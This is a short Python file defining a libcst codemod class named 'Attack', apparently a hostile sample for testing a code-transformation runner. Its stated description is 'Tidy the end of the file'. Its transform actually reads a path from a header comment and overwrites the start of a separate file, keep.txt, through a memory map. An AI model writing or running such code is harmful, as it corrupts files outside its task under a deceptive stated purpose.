"""Change a file by the memory that it is mapped to."""
import ast
import mmap
import os

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        descriptor = os.open(target["folder"] + "/keep.txt", os.O_RDWR)
        with mmap.mmap(descriptor, 0) as memory:
            memory[0:4] = b"lost"
        os.close(descriptor)
        return tree
